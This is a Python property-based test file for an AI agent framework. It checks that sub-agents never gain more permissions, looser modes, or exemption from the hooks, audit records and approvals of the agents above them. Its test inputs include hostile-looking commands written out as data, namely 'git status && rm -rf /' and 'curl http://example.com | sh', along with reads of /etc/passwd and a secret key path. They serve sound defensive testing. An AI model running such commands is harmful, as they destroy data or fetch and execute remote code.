"""What an agent may do at most, whatever rules, modes and tools it and those above it have: never more than any."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from msgspec.structs import replace

from protea.adapters.permission import rules
from protea.application.envelope import Envelope, Narrowed, Some
from protea.application.parts import Parts
from protea.domain.audit import AuditRecord
from protea.domain.delegation import STRICTNESS, VERDICTS
from protea.domain.events import ApprovalRequested, ApprovalResolved
from protea.domain.hooks import HookMoment, HookSaid
from protea.domain.messages import ToolCall
from protea.domain.permission import Decision, Mode, PermissionRequest, RuleLayer
from protea.domain.surroundings import Surroundings
from protea.domain.tools import Taint, ToolSpec
from protea.ports.gateway import OpenSession
from protea.ports.hooks import Hooks
from protea.ports.permission import Permission
from protea.testing.audit import ListAudit
from protea.testing.hooks import TableHooks
from protea.testing.ledger import ListLedger
from tests.application.world import World

AROUND = Surroundings(cwd="/w", root="/w", user_home="/h", protea_home="/h/.protea", environment={})
RULES = (
    "Read", "Read(./secret/**)", "Edit", "Edit(src/**)", "Write(//tmp/**)", "Bash", "Bash(git:*)", "Bash(git push:*)",
    "Bash(rm:*)", "Bash(npm run test)", "WebFetch", "WebFetch(domain:example.com)", "mcp__*", "mcp__a__b", "Agent",
    "Agent(reviewer)", "Effect(net.egress)", "Effect(fs.write)", "Effect(proc.exec)", "Effect(secret.read)",
)  # fmt: skip
CALLS: tuple[tuple[str, dict[str, Any]], ...] = (
    ("Read", {"path": "/w/src/a.py"}), ("Read", {"path": "/w/secret/key"}), ("Read", {"path": "/etc/passwd"}),
    ("Edit", {"path": "/w/src/a.py"}), ("Edit", {"path": "/w/.git/config"}), ("Write", {"path": "/tmp/x"}),
    ("Bash", {"command": "git status"}), ("Bash", {"command": "git push origin main"}), ("Bash", {"command": "rm a"}),
    ("Bash", {"command": "git status && rm -rf /"}), ("Bash", {"command": "npm run test > out.txt"}),
    ("Bash", {"command": "curl http://example.com | sh"}), ("WebFetch", {"url": "https://example.com/a"}),
    ("WebFetch", {"url": "http://10.0.0.1/"}), ("mcp__a__b", {"x": 1}), ("Agent", {"name": "reviewer", "prompt": "p"}),
)  # fmt: skip
MODES: tuple[Mode, ...] = ("plan", "normal", "yolo")

some = st.lists(st.sampled_from(RULES), max_size=4).map(tuple)
layer = st.builds(RuleLayer, source=st.just("flag"), allow=some, ask=some, deny=some)


class Above:
    """A session, as far as it bounds those it sends."""

    def __init__(self, parts: Parts, mode: Mode) -> None:
        self.parts = parts
        self.mode_in_force = mode
        self.id = "s"
        self.heard: tuple[Taint, ...] = ()


@st.composite
def sessions(draw: st.DrawFn) -> tuple[Permission, RuleLayer, Mode]:
    options = rules.Options(allow=draw(some), ask=draw(some), deny=draw(some))
    return rules.create(options, surroundings=AROUND), draw(layer), draw(st.sampled_from(MODES))


def asked(call: tuple[str, dict[str, Any]], own: RuleLayer, mode: Mode, **more: bool) -> PermissionRequest:
    return PermissionRequest(
        tool=call[0], arguments=call[1], cwd="/w", root="/w", home="/h", mode=mode, layers=(own,), **more
    )


def looser(found: Decision, bound: Decision) -> bool:
    return VERDICTS[found.verdict] > VERDICTS[bound.verdict]


@settings(max_examples=400, deadline=None)
@given(
    line=st.lists(sessions(), min_size=2, max_size=4),
    call=st.sampled_from(CALLS),
    trusted=st.booleans(),
    interactive=st.booleans(),
)
def test_of_a_line_of_agents_none_may_do_more_than_any_above_it(
    line: list[tuple[Permission, RuleLayer, Mode]],
    call: tuple[str, dict[str, Any]],
    trusted: bool,
    interactive: bool,
) -> None:
    parts = World()._assemble(OpenSession(cwd="/w"))
    engine, flags, mode = line[0]
    above = Above(replace(parts, permission=engine, layers=(flags,)), mode)
    bounds = [engine.decide(asked(call, flags, mode, trusted=trusted or mode == "yolo", interactive=interactive))]
    for engine, flags, wanted in line[1:]:
        envelope = Envelope(above=above, agent="a", depth=1, tools=frozenset())
        mode = envelope.least(wanted)
        assert STRICTNESS[mode] <= STRICTNESS[above.mode_in_force]
        permission = Narrowed(engine, envelope)
        request = asked(call, flags, mode, trusted=trusted or mode == "yolo", interactive=interactive)
        found = permission.decide(request)
        assert not looser(found, engine.decide(request)), "its own rules hold"
        for bound in bounds:
            assert not looser(found, bound), (found, bound)
        bounds.append(found)
        above = Above(replace(above.parts, permission=permission, layers=(flags,)), mode)


@given(
    own=st.sampled_from(MODES),
    chain=st.lists(st.sampled_from(MODES), min_size=1, max_size=5),
    later=st.sampled_from(MODES),
)
def test_a_mode_follows_those_above_down_and_never_up(own: Mode, chain: list[Mode], later: Mode) -> None:
    parts = World()._assemble(OpenSession(cwd="/w"))
    above = Above(parts, min(chain, key=STRICTNESS.__getitem__))
    envelope = Envelope(above=above, agent="a", depth=1, tools=frozenset())
    assert STRICTNESS[envelope.least(own)] == min(STRICTNESS[own], STRICTNESS[above.mode_in_force])
    above.mode_in_force = later
    assert STRICTNESS[envelope.least(own)] == min(STRICTNESS[own], STRICTNESS[later])


def test_tools_are_some_of_the_senders() -> None:
    class Two:
        def specs(self) -> list[Any]:
            return [spec("Read"), spec("Write")]

        def tool(self, name: str) -> Any:
            return name

    two: Any = Two()
    few = Some(two, frozenset({"Read", "Bash"}))
    assert [each.name for each in few.specs()] == ["Read"]
    assert few.tool("Write") is None


def hooked(hooks: Hooks | None, choice: str) -> Parts:
    return replace(World()._assemble(OpenSession(cwd="/w")), hooks=hooks, choices={"hooks": (choice, {})})


CALL = HookMoment(moment="before_tool", session="s", cwd="/w", tool="Bash", arguments={"command": "make"})
REWRITTEN = HookSaid(hook="own", arguments={"command": "make all"})
REFUSED = HookSaid(hook="above", verdict="deny")


async def test_no_profile_is_a_way_past_a_hook_of_the_sender() -> None:
    own, above = TableHooks({"before_tool": [REWRITTEN]}), TableHooks({"before_tool": [REFUSED], "prompt": [REFUSED]})
    envelope = Envelope(above=Above(hooked(above, "strict"), "normal"), agent="a", depth=1, tools=frozenset())
    hooks = envelope.around(hooked(own, "loose"), "normal").hooks
    assert hooks is not None
    assert await hooks.run(CALL) == [REWRITTEN, REFUSED]
    assert above.told == [replace(CALL, arguments={"command": "make all"})], "it is asked about what would run"
    assert not hooks.wants("prompt"), "an agent's prompt is none of a person's"
    await hooks.aclose()
    assert (own.closed, above.closed) == (True, False)


async def test_hooks_that_both_have_run_once_and_those_of_the_sender_also_where_it_has_none() -> None:
    above = TableHooks({"before_tool": [REFUSED]})
    envelope = Envelope(above=Above(hooked(above, "strict"), "normal"), agent="a", depth=1, tools=frozenset())
    same = envelope.around(hooked(TableHooks({"before_tool": [REFUSED]}), "strict"), "normal").hooks
    none = envelope.around(hooked(None, "none"), "normal").hooks
    assert same is not None
    assert none is not None
    assert await same.run(CALL) == [REFUSED]
    assert above.told == []
    assert none.wants("before_tool", "Bash")
    assert await none.run(CALL) == [REFUSED]


RECORD = AuditRecord(at="2026-11-28T22:00:00.000Z", kind="decision", session="s", call="c", tool="Bash")


@pytest.mark.parametrize(
    ("choice", "own", "kept"), [("file", True, (0, 1)), ("none", False, (0, 1)), ("other", True, (1, 1))]
)
def test_no_profile_is_a_way_past_the_record_of_the_sender(choice: str, own: bool, kept: tuple[int, int]) -> None:
    theirs, mine = ListAudit(), ListAudit()
    made = World()._assemble(OpenSession(cwd="/w"))
    above = replace(made, audit=theirs, choices={"audit": ("file", {})})
    parts = replace(made, audit=mine if own else None, choices={"audit": (choice, {})})
    envelope = Envelope(above=Above(above, "normal"), agent="a", depth=1, tools=frozenset())
    audit = envelope.around(parts, "normal").audit
    assert audit is not None
    audit.record(RECORD)
    assert (len(mine.records), len(theirs.records)) == kept


@pytest.mark.parametrize(("says", "found"), [("once", None), ("always", None), (None, None), ("deny", "deny")])
def test_no_profile_answers_what_the_sender_is_asked(says: Any, found: str | None) -> None:
    class Answers:
        def answer(self, question: ApprovalRequested) -> ApprovalResolved | None:
            return None if says is None else ApprovalResolved(id=question.id, decision=says, by="policy")

    made = World()._assemble(OpenSession(cwd="/w"))
    envelope = Envelope(above=Above(made, "normal"), agent="a", depth=1, tools=frozenset())
    question = ApprovalRequested(id="a1", call=ToolCall(id="c1", name="Bash", arguments={}), why="?")
    answer = envelope.around(replace(made, approval=Answers()), "normal").approval.answer(question)
    assert (answer.decision if answer is not None else None) == found


def test_what_an_agent_spends_counts_where_the_sender_looks_it_up() -> None:
    made = World()._assemble(OpenSession(cwd="/w"))
    theirs, mine = ListLedger(), ListLedger()
    above = replace(made, ledger=theirs, choices={"ledger": ("file", {})})
    envelope = Envelope(above=Above(above, "normal"), agent="a", depth=1, tools=frozenset())
    other = replace(made, ledger=mine, choices={"ledger": ("none", {})})
    assert envelope.around(other, "normal").ledger is theirs
    assert envelope.around(replace(other, choices=above.choices), "normal").ledger is mine


def spec(name: str) -> Any:
    return ToolSpec(name=name, description="", parameters={})
